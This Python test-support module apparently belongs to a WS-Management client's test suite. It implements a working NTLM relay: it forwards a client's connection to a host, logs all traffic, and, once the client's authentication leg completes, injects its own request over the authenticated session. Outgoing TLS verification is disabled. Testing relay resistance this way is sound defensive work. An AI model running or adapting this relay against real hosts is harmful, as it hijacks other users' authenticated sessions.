"""A relay as an attacker runs one, in a process of its own: it takes a client's connection for the host's.

``python -m tests.support.ntlm_relay HOST_URL RECORD [CERTIFICATE KEY]`` prints its port. Everything is passed on both
ways and written to the file RECORD. When the host has answered the client's last leg with 200, or has refused it, the
relay asks for something of its own on the host's connection; the file then holds ``INJECTED`` and the status.
"""

from __future__ import annotations

import contextlib
import re
import select
import socket
import ssl
import sys
from pathlib import Path
from urllib.parse import urlsplit
from uuid import uuid4

from remora.wsman import ClientSession, Identify

_LENGTH = re.compile(rb"content-length: *(\d+)", re.IGNORECASE)


def read_message(connection: socket.socket) -> bytes:
    """Read one HTTP message; b"" at the end."""
    data = b""
    while b"\r\n\r\n" not in data:
        more = connection.recv(65536)
        if not more:
            return b""
        data += more
    head, _, _ = data.partition(b"\r\n\r\n")
    found = _LENGTH.search(head)
    size = len(head) + 4 + (int(found[1]) if found else 0)
    while len(data) < size:
        more = connection.recv(65536)
        if not more:
            return b""
        data += more
    return data


def relay(client: socket.socket, host: socket.socket, record: Path, url: str) -> None:
    """Pass on until the host has decided; then ask for something, and go on as long as both ends do."""
    own = ClientSession(f"{url}/wsman", new_id=uuid4).send(Identify()).body
    asked = False
    while request := read_message(client):
        host.sendall(request)
        answer = read_message(host)
        with record.open("ab") as file:
            file.write(request + b"\n" + answer + b"\n")
        decided = not answer.startswith(b"HTTP/1.1 401") or b"WWW-Authenticate: Negotiate\r\n" in answer
        if decided and not asked and b"uthorization: Negotiate TlRMTVNTUAAD" in request:
            asked = True
            head = (
                f"POST /wsman HTTP/1.1\r\nHost: x\r\nContent-Type: application/soap+xml\r\nContent-Length: {len(own)}"
            )
            host.sendall(f"{head}\r\n\r\n".encode() + own)
            injected = read_message(host)
            with record.open("ab") as file:
                file.write(b"INJECTED " + injected[9:12] + b"\n")
        client.sendall(answer)


def main() -> None:
    url, record, *own = sys.argv[1:]
    parts = urlsplit(url)
    outgoing = ssl._create_unverified_context()
    incoming = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    if own:
        incoming.load_cert_chain(*own)
    listener = socket.create_server(("127.0.0.1", 0))
    print(listener.getsockname()[1], flush=True)
    while select.select([listener], [], []):
        client, _ = listener.accept()
        host = socket.create_connection((str(parts.hostname), int(parts.port or 0)))
        with contextlib.suppress(OSError):
            if own:
                client = incoming.wrap_socket(client, server_side=True)
            if parts.scheme == "https":
                host = outgoing.wrap_socket(host)
            relay(client, host, Path(record), url)
        client.close()
        host.close()


if __name__ == "__main__":
    main()
